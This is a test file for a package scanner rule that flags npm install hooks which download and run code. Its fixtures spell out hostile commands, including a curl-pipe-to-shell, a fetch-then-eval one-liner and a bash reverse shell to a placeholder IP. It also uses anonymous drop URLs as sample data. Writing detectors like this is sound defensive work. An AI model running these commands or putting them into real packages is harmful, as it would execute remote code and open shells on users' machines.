// What installing downloads and runs: from code and from hand-made facts.
import { expect, test } from 'vitest';
import { indicator } from '../indicators/indicator.ts';
import { code, fact, judgeCode, severities, text } from '../support/code-facts.ts';
import { judgedCode } from '../support/code-rules.ts';
import { judgeFacts } from '../support/server-facts.ts';

const ID = 'install-script-downloads-code';

test('the packages of its fixtures', async () => {
  expect((await judgedCode(ID, 'bad')).map(({ severity, title }) => [severity, title])).toEqual([['high', 'Installing fixture-downloads 1.0.0 downloads from an address that its code hides and runs or stores what it gets']]);
  expect((await judgedCode(ID, 'good')).map(({ severity }) => [severity])).toEqual([['info']]);
});
const hook = (command: string, ...runs: readonly string[]) => fact('install-script', { command, runs });
const installer = (url: string, more: Parameters<typeof fact<'network'>>[1] = {}) => [
  hook('node install.js', 'install.js'),
  fact('network', { file: 'install.js', url, origins: [text(url)], ...more }),
  fact('file', { file: 'install.js', access: 'write', api: 'fs.writeFileSync' }),
  fact('process', { file: 'install.js', command: './bin/tool --version' }),
];

test.each([
  ['curl -s https://example.com/x.sh | sh', ['high']],
  ['node -e "fetch(\'https://example.com/x\').then(r => r.text()).then(eval)"', ['high']],
  ['bash -c "bash -i >& /dev/tcp/203.0.113.7/2333 0>&1"', ['high']],
  ['node -e "process.env.CI || require(\'./postinstall\')"', []],
  ['node -e "try{require(\'./postinstall\')}catch(e){}"', []],
  ['prebuild-install || node-gyp rebuild', []],
  ['node-pre-gyp install --fallback-to-build', []],
  ['husky install || true', []],
] as const)('the hook itself: %s', async (command, expected) => {
  expect(await severities(ID, [hook(command)])).toEqual(expected);
});

test('a hook that no registry install runs is none', async () => {
  expect(await judgeCode(ID, [fact('install-script', { hook: 'prepare', command: 'curl https://example.com/x.sh | sh' })])).toEqual([]);
});

test.each([
  ['https://webhook.site/0000/x', 'high'],
  ['http://203.0.113.7:8080/sdd.dll', 'high'],
  ['https://files.example.com/payload.bin', 'medium'],
  ['https://github.com/somebody/else/releases/download/v1/x', 'medium'],
  ['https://github.com/a-team/a-package/releases/download/v1/x', 'info'],
  ['https://npm.jsr.io/@a/b-linux-x64/-/b-linux-x64-1.0.0.tgz', 'info'],
  ['https://cdn.a-package.example.com/v1/x', 'info'],
] as const)('a file of the hook that downloads from %s and runs: %s', async (url, severity) => {
  expect(await severities(ID, installer(url), { says: ['a-team/a-package', 'cdn.a-package.example.com'] })).toEqual([severity]);
});

test('an address that is hidden, that another server tells, or that a setting gives', async () => {
  expect(await severities(ID, installer('https://files.example.com/x', { origins: [text('https://files.example.com/x', 'base64')] }))).toEqual(['high']);
  expect(await severities(ID, installer('*', { origins: [{ kind: 'hidden', why: 'a loop' }] }))).toEqual(['high']);
  expect(await severities(ID, installer('*', { origins: [{ kind: 'remote', from: 'https://rpc.example.com' }] }))).toEqual(['high']);
  expect(await severities(ID, installer('*', { origins: [{ kind: 'remote', from: 'https://npm.jsr.io/a' }] }))).toEqual(['info']);
  expect(await severities(ID, installer('*', { origins: [{ kind: 'environment', name: 'npm_config_mirror' }] }))).toEqual(['low']);
  const ticket = [text('https://auth.example.com/tickets/'), { kind: 'remote', from: 'https://auth.example.com/tickets' }] as const;
  expect(await severities(ID, installer('https://auth.example.com/tickets/*', { host: 'auth.example.com', origins: ticket }))).toEqual(['medium']);
  expect(await severities(ID, installer('https://auth.example.com/tickets', { host: 'auth.example.com', origins: ticket }))).toEqual(['high']);
});

test('an indicator, and what is evaluated at once', async () => {
  const known = () => [indicator('domain', 'files.example.com')];
  expect(await severities(ID, installer('https://files.example.com/x'), { known })).toEqual(['high']);
  expect(await severities(ID, [hook('node i.js', 'i.js'), fact('dynamic-code', { file: 'i.js', origins: [{ kind: 'remote' }] })])).toEqual(['high']);
  expect(await severities(ID, [hook('node i.js', 'i.js'), fact('process', { file: 'i.js', command: '* --version', origins: [{ kind: 'remote' }, text('--version')] })])).toEqual([]);
});

test('a request alone counts where its place is suspect; code that no hook runs does not', async () => {
  expect(await judgeCode(ID, installer('https://webhook.site/0000/x').slice(0, 2))).toMatchObject([{ severity: 'high', title: 'Installing a-package 1.0.0 connects to a service for anonymous drops' }]);
  expect(await judgeCode(ID, installer('https://files.example.com/x').slice(0, 2))).toEqual([]);
  expect(await judgeCode(ID, installer('https://webhook.site/0000/x').slice(1))).toEqual([]);
});

test('programs that download: curl, and libraries of Windows', async () => {
  const running = (command: string) => [hook('node i.js', 'i.js'), fact('process', { file: 'i.js', command })];
  expect(await severities(ID, running('curl -o x https://files.example.com/x'))).toEqual(['medium']);
  expect(await severities(ID, running('rundll32 node-gyp.dll,main'))).toEqual(['high']);
  expect(await severities(ID, running('curl -fsSL https://get.own.example.com/i.sh | sh'), { says: ['get.own.example.com'] })).toEqual(['info']);
});

test('tells where, who runs it and which credentials it had, with a fingerprint that lines do not change', async () => {
  const usedBy = [{ location: { path: '.mcp.json', line: 4 }, credentials: ['B_TOKEN', 'A_KEY'] }];
  const [finding] = await judgeFacts(ID, code(installer('https://webhook.site/0000/x'), { usedBy }));
  expect(finding).toMatchObject({
    title: 'Installing a-package 1.0.0 downloads from a service for anonymous drops and runs or stores what it gets',
    package: { name: 'a-package', version: '1.0.0', purl: 'pkg:npm/a-package@1.0.0' }, credentials: ['A_KEY', 'B_TOKEN'],
    locations: [{ path: 'node_modules/a-package/install.js', line: 1 }, { path: '.mcp.json', line: 4 }],
  });
  const [moved] = await judgeCode(ID, installer('https://webhook.site/0000/x', { line: 99 }));
  expect(moved?.fingerprint).toBe(finding?.fingerprint);
});
